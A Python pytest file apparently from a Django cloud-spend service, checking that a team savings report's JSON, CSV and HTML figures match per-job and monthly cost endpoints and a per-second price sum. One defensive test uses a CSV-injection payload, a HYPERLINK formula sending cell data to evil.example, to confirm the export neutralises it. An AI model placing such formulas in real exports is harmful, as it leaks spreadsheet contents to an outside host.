"""The savings report (GET /api/v1/teams/{id}/report/, its CSV, the dashboard's report page)
answers the ledger's figures: each job's row is what its page and /jobs/{id}/cost/ say, each
month's what /teams/{id}/cost/ says, and the money adds up to an independent per-second sum
of the recorded prices over the recorded instances. Jobs: the hand-computed history
(February–March 2026) and a real local-provider run (December 2026, five VMs, four
preempted), in one team, and a job of another team that must not count."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections import Counter
from decimal import Decimal

import pytest
from django.test import Client
from rest_framework.test import APIClient

from respawn_server.jobs.core.choices import InstanceState
from respawn_server.jobs.models import Instance, InstanceEvent, Job, PriceQuote
from respawn_server.jobs.money.ledger import Waste
from tests.costs import recorded
from tests.costs.history import make_history
from tests.factories import make_job, make_team_with_members

RUN = recorded.read()
RANGE = {"from": "2026-01", "to": "2026-12"}
BILLED_MONTHS = ("2026-02", "2026-03", "2026-12")


@pytest.fixture
def world(db):
    setup = make_team_with_members()
    owner = setup.people["member"].user
    hand, *_ = make_history(setup.team, owner)
    run, _ = recorded.load(setup.team, owner, RUN)
    recorded.load(setup.other_team, setup.people["outsider"].user, RUN)  # another team's: in none of the figures
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {setup.people['viewer'].token}")
    return setup, [hand, run], api


def report(api, team, **params):
    response = api.get(f"/api/v1/teams/{team.pk}/report/", {**RANGE, **params})
    assert response.status_code == 200, response.content
    return response


def brute_force_spent(job_ids) -> Decimal:
    """Walk every billed second of every instance (from its launch, the move to booting, else
    its registration, to its end) and add the price in force then: the newest quote at or
    before that second for its zone, else for its region. Slow and plain on purpose."""
    quotes = list(PriceQuote.objects.all())
    total = Decimal(0)
    for instance in Instance.objects.filter(job_id__in=job_ids).exclude(ended_at=None):
        booted = InstanceEvent.objects.filter(instance=instance, to_state=InstanceState.BOOTING).order_by("created_at").first()
        start = booted.created_at if booted else instance.registered_at
        if start is None:
            continue  # never got a VM

        def price(moment, zone):
            seen = [q for q in quotes if (q.provider, q.region, q.zone, q.instance_type, q.market) == (
                instance.provider, instance.region, zone, instance.instance_type, instance.market) and q.observed_at <= moment]
            return max(seen, key=lambda q: q.observed_at).usd_per_hour if seen else None

        moment, end = start.replace(microsecond=0), instance.ended_at.replace(microsecond=0)
        while moment < end:
            in_zone = price(moment, instance.zone)
            total += (in_zone if in_zone is not None else price(moment, "")) / 3600
            moment += dt.timedelta(seconds=1)
    return total


def test_each_jobs_row_is_its_cost_answer_and_its_page(world):
    setup, jobs, api = world
    body = report(api, setup.team).json()
    assert [row["job"] for row in body["jobs"]] == [job.pk for job in jobs]
    browser = Client()
    browser.force_login(setup.people["viewer"].user)
    for row in body["jobs"]:
        cost = api.get(f"/api/v1/jobs/{row['job']}/cost/").json()
        assert (row["spent"], row["on_demand_baseline"], row["savings"], row["waste"]) == (
            cost["spent"], cost["on_demand_baseline"], cost["savings"], cost["waste"]["total"])
        assert {part: row[f"waste_{part}"] for part in Waste.PARTS} == {part: cost["waste"][part] for part in Waste.PARTS}
        page = browser.get(f"/jobs/{row['job']}/").content.decode()
        assert f'data-field="spent" data-exact="{row["spent"]}"' in page
        assert f'data-exact="{row["savings"]}"' in page
    hand = body["jobs"][0]  # tests/costs/history.py, by hand
    assert (hand["spent"], hand["on_demand_baseline"], hand["savings"]) == ("1.80000000", "2.33333333", "0.53333333")


def test_each_months_row_is_the_teams_month(world):
    setup, _, api = world
    body = report(api, setup.team).json()
    assert [m["month"] for m in body["months"]] == [f"2026-{n:02d}" for n in range(1, 13)]
    for month in body["months"]:
        team_month = api.get(f"/api/v1/teams/{setup.team.pk}/cost/", {"month": month["month"]}).json()
        assert (month["spent"], month["on_demand_baseline"], month["savings"], month["waste"]) == (
            team_month["spent"], team_month["on_demand_baseline"], team_month["savings"], team_month["waste"])
        assert (month["jobs"] > 0) == (month["month"] in BILLED_MONTHS)
    hand_months = {m["month"]: m["spent"] for m in body["months"][1:3]}
    assert hand_months == {"2026-02": "0.36000000", "2026-03": "1.44000000"}  # by hand


def test_the_money_adds_up_to_a_per_second_sum_of_the_prices_in_force(world):
    setup, jobs, api = world
    body = report(api, setup.team).json()
    spent = Decimal(body["totals"]["spent"])
    instances = Instance.objects.filter(job__in=jobs).count()
    assert abs(spent - brute_force_spent([job.pk for job in jobs])) <= Decimal("0.00000001") * instances
    assert spent == sum(Decimal(row["spent"]) for row in body["jobs"]) == sum(Decimal(m["spent"]) for m in body["months"])
    assert Decimal(body["totals"]["savings"]) == Decimal(body["totals"]["on_demand_baseline"]) - spent
    assert Decimal(body["waste"]["total"]) == Decimal(body["totals"]["waste"]) == sum(
        Decimal(body["waste"][part]) for part in Waste.PARTS)
    last = body["cumulative"][-1]  # the curve ends at the totals
    assert last["spent"] == pytest.approx(float(spent)) and last["savings"] == pytest.approx(float(body["totals"]["savings"]))
    assert [p["at"] for p in body["cumulative"]] == sorted(p["at"] for p in body["cumulative"])


def test_interruptions_are_counted_per_zone_as_the_recording_has_them(world):
    setup, _, api = world
    body = report(api, setup.team).json()
    preempted = Counter(i["zone"] for i in RUN["instances"] if i["end_reason"] == "preempted")
    preempted["hand-1a"] += 1  # the hand history's instance A
    assert {row["zone"]: row["preempted"] for row in body["interruptions"]} == dict(preempted)
    assert all(row["total"] == row["preempted"] + row["lost"] + row["notice"] + row["capacity_error"] for row in body["interruptions"])


def test_a_month_range_leaves_out_what_lies_outside_it(world):
    setup, jobs, api = world
    body = report(api, setup.team, **{"from": "2026-03", "to": "2026-11"}).json()
    assert [row["job"] for row in body["jobs"]] == [jobs[0].pk]  # the December run is outside
    assert body["months"][0]["spent"] == "1.44000000" and body["months"][0]["month"] == "2026-03"
    assert body["totals"]["spent"] == "1.80000000"  # a job's row (and the totals) are whole jobs


def test_the_csv_tables_hold_the_json_figures(world):
    setup, _, api = world
    body = report(api, setup.team).json()
    for table, key in (("jobs", "jobs"), ("months", "months"), ("interruptions", "interruptions")):
        response = report(api, setup.team, format="csv", table=table)
        assert response["Content-Type"].startswith("text/csv")
        assert 'filename="respawn-team' in response["Content-Disposition"]
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        assert rows == [{k: str(v) for k, v in row.items()} for row in body[key]]
    waste = list(csv.DictReader(io.StringIO(report(api, setup.team, format="csv", table="waste").content.decode())))
    assert {r["kind"]: r["usd"] for r in waste} == body["waste"]
    by_accept = api.get(f"/api/v1/teams/{setup.team.pk}/report/", RANGE, HTTP_ACCEPT="text/csv")
    assert by_accept["Content-Type"].startswith("text/csv") and by_accept.content.decode().startswith("job,name,")


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_text(world):
    # Job names are typed by members; a spreadsheet opening the export runs a cell that
    # starts with = + - @ (or a tab, CR) as a formula (OWASP's CSV injection).
    setup, (hand, run), api = world
    names = {hand.pk: '=HYPERLINK("http://evil.example/?"&A1,"details")', run.pk: "-2+3"}
    for pk, name in names.items():
        Job.objects.filter(pk=pk).update(name=name)
    body = report(api, setup.team).json()
    rows = list(csv.DictReader(io.StringIO(report(api, setup.team, format="csv", table="jobs").content.decode())))
    assert {int(r["job"]): r["name"] for r in rows} == {pk: "'" + name for pk, name in names.items()}
    # Figures are numbers, a negative one too, and stay as the JSON has them.
    assert [{k: v for k, v in r.items() if k != "name"} for r in rows] == [
        {k: str(v) for k, v in row.items() if k != "name"} for row in body["jobs"]]


@pytest.mark.parametrize("params, field", [
    ({"from": "2026-13"}, "from"), ({"to": "26-01"}, "to"), ({"to": "\x00"}, "to"), ({"from": "0000-01"}, "from"),
    ({"from": "2026-12", "to": "2026-01"}, "from"), ({"from": "2000-01", "to": "2026-01"}, "from"),
    ({"format": "xml"}, "format"), ({"table": "everything"}, "table"), ({"format": "csv", "table": "nope"}, "table"),
])
def test_bad_input_is_a_400_naming_the_field(world, params, field):
    setup, _, api = world
    response = api.get(f"/api/v1/teams/{setup.team.pk}/report/", {**RANGE, **params})
    assert response.status_code == 400, response.content
    assert response["Content-Type"].startswith("application/json") and field in response.json()["errors"]


def test_another_team_is_not_found_and_the_schema_describes_both_formats(world):
    setup, _, api = world
    assert api.get(f"/api/v1/teams/{setup.other_team.pk}/report/").status_code == 404
    operation = api.get("/api/schema/", HTTP_ACCEPT="application/json").json()["paths"]["/api/v1/teams/{id}/report/"]["get"]
    assert {"application/json", "text/csv"} <= set(operation["responses"]["200"]["content"])
    assert {"from", "to", "format", "table"} <= {p["name"] for p in operation["parameters"]}


def test_the_report_page_shows_the_rows_and_refuses_a_bad_month_by_name(world):
    setup, jobs, _ = world
    browser = Client()
    browser.force_login(setup.people["viewer"].user)
    page = browser.get(f"/teams/{setup.team.pk}/report/", RANGE).content.decode()
    assert all(f'data-job="{job.pk}"' in page for job in jobs) and 'id="report-cumulative"' in page
    assert "format=csv" in page
    # The year's months that had jobs, and a word for the others (the CSV keeps all twelve).
    assert re.findall(r'data-month="([0-9-]+)"', page) == list(BILLED_MONTHS)
    assert "9 months of the range without a job are left out." in page
    bad = browser.get(f"/teams/{setup.team.pk}/report/", {"from": "2026-99"})
    assert bad.status_code == 400 and "from" in bad.content.decode()
    assert browser.get(f"/teams/{setup.other_team.pk}/report/").status_code in (403, 404)


def test_a_job_the_price_book_cannot_price_is_named_apart_and_in_no_sum(world):
    from tests.costs.history import T, launched

    setup, _, api = world
    stray = make_job(setup.team, setup.people["member"].user, name="stray")
    instance = launched(stray, at=T(3, 2, 10), ended=T(3, 2, 11), end_reason="completed")
    Instance.objects.filter(pk=instance.pk).update(instance_type="no.such.type")
    body = report(api, setup.team).json()
    assert [u["job"] for u in body["unpriced"]] == [stray.pk] and "no spot price" in body["unpriced"][0]["error"]
    assert stray.pk not in [row["job"] for row in body["jobs"]]
    assert body["totals"]["spent"] == str(sum(Decimal(row["spent"]) for row in body["jobs"]).quantize(Decimal("0.00000001")))
    browser = Client()
    browser.force_login(setup.people["viewer"].user)
    page = browser.get(f"/teams/{setup.team.pk}/report/", RANGE).content.decode()
    assert f"job #{stray.pk}</a> (" in page
